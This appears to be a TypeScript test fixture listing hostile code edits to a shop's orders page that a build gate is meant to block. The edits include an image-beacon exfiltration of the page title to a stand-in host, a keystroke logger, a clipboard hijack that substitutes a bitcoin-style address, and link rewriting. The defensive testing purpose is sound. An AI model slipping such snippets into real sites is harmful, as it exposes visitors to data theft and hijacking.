import type { BadBuild } from '../bad-build';
import { append } from '../edit-source';

/** Statements in the module of My orders. */
function hostile(title: string, statements: string, reason?: RegExp): BadBuild {
  return {
    title,
    package: 'remote-shop',
    edits: [append('src/pages/orders.tsx', statements)],
    stoppedBy: 'gate',
    ...(reason && { reason }),
  };
}

/** Builds that take data, or control, from the visitor without an error. */
export const HOSTILE_CASES: BadBuild[] = [
  {
    ...hostile(
      'sends the title of the page to another host, in the address of a picture',
      "new Image().src = 'https://pictures.example.net/?' + encodeURIComponent(document.title);",
      /pictures\.example\.net|Content-Security-Policy/,
    ),
    quick: true,
  },
  hostile(
    'notes each key on the pages of all remotes',
    `const keys: string[] = [];
document.addEventListener('keydown', (event) => { keys.push(event.key); });`,
    /key/,
  ),
  hostile(
    'forbids to enlarge the page',
    `const viewport = document.querySelector<HTMLMetaElement>('meta[name=viewport]');
if (viewport) viewport.content += ', maximum-scale=1, user-scalable=no';`,
  ),
  hostile(
    'takes the context menu',
    "document.addEventListener('contextmenu', (event) => event.preventDefault());",
  ),
  hostile(
    'takes what the visitor copies',
    `document.addEventListener('copy', (event) => {
  event.clipboardData?.setData('text/plain', 'bc1qhostile');
  event.preventDefault();
});`,
  ),
  hostile(
    'rewrites the links of the navigation bar',
    `setInterval(() => {
  for (const link of document.querySelectorAll('header a'))
    link.setAttribute('href', '/terms-condition');
}, 500);`,
  ),
];
